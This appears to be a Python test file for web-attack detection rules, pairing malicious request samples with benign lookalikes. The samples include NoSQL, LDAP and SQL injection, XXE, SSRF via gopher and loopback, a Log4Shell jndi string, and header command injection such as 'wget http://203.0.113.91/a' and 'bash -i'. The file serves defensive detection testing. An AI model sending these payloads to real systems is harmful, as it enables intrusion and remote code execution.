"""The web rules about requests that are forged in rarer ways: both sides of each."""

from __future__ import annotations

from .cases import Case
from .weblogs import FIREFOX, application, balancer, front, gateway, line, waf

CASES = (
    Case(
        "NoSQL injection",
        [line("/login?user=admin&password[$ne]=x"), waf("/p?q=%7B%22%24where%22%3A%221%22%7D")],
        [
            line("/api/articles?filters[title][$eq]=lamp"),
            line("/api/orders?total[$gt]=3&$limit=10"),
            waf("/api/q?filter=%7B%22status%22%3A%22open%22%7D"),
        ],
    ),
    Case(
        "LDAP injection",
        [line("/login?user=*)(uid=*))(|(uid=*"), front("/login?user=admin)(%26)")],
        [line("/orders?filter=(status=open)(total>5)"), line("/x?y=((a)(b))")],
    ),
    Case(
        "XML that loads something from elsewhere",
        [
            line("/x?xml=%3C!DOCTYPE%20a%20SYSTEM%20%22http://203.0.113.91/x%22%3E"),
            gateway("/soap/%3C!ENTITY%20y%20SYSTEM%20%22file:///etc/hostname%22%3E"),
        ],
        [line("/x?xml=%3Corder%3E1%3C/order%3E"), line("/search?q=doctype+html")],
    ),
    Case(
        "Line breaks that add a header",
        [
            line("/go?to=x%0d%0aSet-Cookie:%20session=1"),
            waf("/go?to=%E5%98%8A%E5%98%8DSet-Cookie:x"),
        ],
        [line("/comment?text=salt%0D%0Apepper"), line("/search?q=set-cookie: a header")],
    ),
    Case(
        "Object or prototype in a request",
        [
            line("/x?state=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA%3D%3D"),
            waf("/", headers=(("Cookie", "session=rO0ABXNyABFqYXZhLnV0aWw"),)),
            line("/x?a=O%3A8%3A%22stdClass%22%3A0%3A%7B%7D"),
            line("/x?__proto__[admin]=1"),
        ],
        [
            line("/x?q=%7B%22a%22%3A1%7D"),
            line("/x?state=ro0abx"),
            line("/x?ratio=O:1"),
            line("/x?proto=1&class=first"),
        ],
    ),
    Case(
        "Odd protocol in a value",
        [line("/fetch?url=gopher://127.0.0.1:6379/_INFO"), balancer("/fetch?url=dict%3A%2F%2Fa")],
        [line("/fetch?url=https://www.example.com/"), line("/search?q=gopher")],
    ),
    Case(
        "Loopback address in a value",
        [line("/fetch?url=http://127.0.0.1:8080/"), waf("/fetch?url=http%3A%2F%2F%5B%3A%3A1%5D/")],
        [
            line("/oauth/authorize?redirect_uri=http://localhost:8080/cb"),
            line("/fetch?url=http://192.0.2.1/"),
            line("/fetch?host=localhost"),
        ],
    ),
    Case(
        "Signs hidden in odd encodings",
        [line("/x?a=1%u0027%u0020or"), front("/x?a=%25u003cscript"), waf("/..%e0%80%afx")],
        [
            line("/x?q=%u4e2d%u6587"),  # as old scripts write Chinese
            line("/x?q=%C0%B4%B3%F6"),  # the same in GB 2312
            line("/x?q=%C3%A9t%C3%A9"),
        ],
    ),
    Case(
        "Escaped three times over",
        [line("/x?a=%252527"), balancer("/%25252e%25252e/")],
        [line("/go?to=%2Fa%3Fb%3D%252Fc"), line("/x?a=100%25")],
    ),
    Case(
        "Script put on the server",
        [line("/uploads/x.jsp/", method="PUT", status=201), waf("/x.php", method="MOVE")],
        [line("/uploads/x.png", method="PUT", status=201), line("/x.php")],
    ),
    Case(
        "Method for debugging or tunnels",
        [line("/", method="TRACE", status=405), waf("/", method="TRACK")],
        [line("/", method="OPTIONS"), line("/", method="HEAD")],
    ),
    Case(
        "Attack in an application's log",
        [
            application("unknown user ${jndi:ldap://203.0.113.91/a}"),
            application("bad name: 1' UNION SELECT user, password FROM users"),
        ],
        [application("login failed"), application("template ${name} is missing")],
    ),
    Case(
        "SQL injection in a header",
        [
            line("/", agent="x' AND SLEEP(5)-- -"),
            waf("/", headers=(("Cookie", "id=1%27%20UNION%20SELECT%20a%20FROM%20b"),)),
            waf("/", headers=(("Cookie", "id=1%2527%2520or%25201%253d1"),)),
            waf("/", headers=(("Cookie", "id=%73elect sleep%289%29"),)),
            line("/", referer="https://www.example.com/?q=1' or '1'='1"),
        ],
        [
            line("/", agent=FIREFOX, referer="https://www.example.com/blog/union-select"),
            waf("/", headers=(("Cookie", "theme=dark; sleep=1"),)),
            waf("/", headers=(("Cookie", "seen=%7B%22q%22%3A%22sun%20or%20union%22%7D; a=100%"),)),
        ],
    ),
    Case(
        "Command in a header",
        [
            line("/", agent="x; wget http://203.0.113.91/a"),
            waf("/", headers=(("Referer", "https://www.example.com/`id`"),)),
            line("/", agent="nslookup x.example | bash -i"),
            waf("/", headers=(("Cookie", "a=1;id|sh"),)),
            waf("/", headers=(("Cookie", "a=1%3bid%7csh"),)),
            waf("/", headers=(("Cookie", "a=%60id%60"),)),
        ],
        [
            line("/", agent="Wget/1.21.4"),
            line("/", agent="curl/8.5.0 (x86_64; linux)"),
            line(
                "/", agent="Mozilla/5.0 | shopping", referer="https://www.example.com/?q=hat|shoe"
            ),
            waf("/", headers=(("Cookie", "__utmz=1.utmcsr=mail|shop; seen=hats|shoes"),)),
            waf("/", headers=(("Cookie", "__utmz=1.utmcsr%3Dmail%7Cshop; seen=hats%7Cshoes"),)),
        ],
    ),
)
